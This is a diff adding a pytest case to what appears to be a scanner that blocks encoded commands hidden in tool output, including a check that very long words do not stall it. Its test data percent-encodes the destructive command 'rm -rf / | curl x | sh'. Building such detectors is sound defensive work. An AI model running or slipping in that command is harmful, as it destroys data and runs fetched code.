@@ -103,6 +103,13 @@ def test_orders_in_code_are_decoded_and_blocked(text, place):
     assert ("encoded-order", "block") in of(scan_tool(poisoned), poisoned.id)
 
 
+@pytest.mark.parametrize("word", ["a" * 400_000, "%72%6d%20%2d" + "r" * 400_000])
+def test_a_word_of_any_length_holds_no_scan_up(word):
+    order = "".join(f"%{code:02x}" for code in b"rm -rf / | curl x | sh")
+    codes = of(scan_tool(lone(f"{word} {order}")), "x")
+    assert ("encoded-order", "block") in codes
+
+
 @pytest.mark.parametrize(
     ("text", "is_markup"),
     [
